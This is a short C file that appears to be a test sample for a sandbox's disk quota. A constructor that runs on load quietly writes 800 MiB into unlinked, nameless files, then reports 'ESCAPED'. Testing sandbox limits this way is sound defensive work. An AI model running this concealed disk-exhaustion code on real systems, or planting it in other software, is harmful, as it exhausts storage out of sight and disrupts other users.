/* cause: sandbox-disk */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

/* 800 MiB in files that have no name: who walks through the folder does not find them. */
__attribute__((constructor)) static void attack(void)
{
    static char block[1 << 20];
    long total = 0;

    for (int i = 0; i < 8; i++) {
        int fd = open("gone", O_RDWR | O_CREAT, 0600);
        unlink("gone");
        for (int j = 0; j < 100; j++) {
            ssize_t n = write(fd, block, sizeof block);
            total += n > 0 ? n : 0;
        }
    }
    sleep(2);
    fprintf(stderr, "ESCAPED: wrote %ld MiB to files without a name\n", total >> 20);
    _exit(99);
}
